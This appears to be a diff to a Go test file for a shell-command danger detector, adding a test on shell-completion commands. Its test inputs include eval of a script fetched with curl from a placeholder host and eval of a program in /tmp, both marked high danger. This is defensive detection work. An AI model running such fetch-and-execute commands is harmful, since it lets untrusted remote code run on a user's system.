@@ -231,3 +231,18 @@ func TestPackageSourcesOnOtherSites(t *testing.T) {
 		`npm config set registry https://npm.example.com/ --location=project`,
 	})
 }
+
+// The project's own program printing its completions is evaluated like
+// any CLI's; a program in a temporary folder, or eval of a download, is
+// not.
+func TestProjectProgramCompletions(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`eval "$(/tmp/x/tool completion bash)"`, "", "", LevelHigh},
+		{`eval "$(curl -s https://x.example.net/completion.sh)"`, "", "", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`eval "$(./bin/acme completion bash)"`,
+		`source <(./target/release/tool completion zsh)`,
+	})
+}
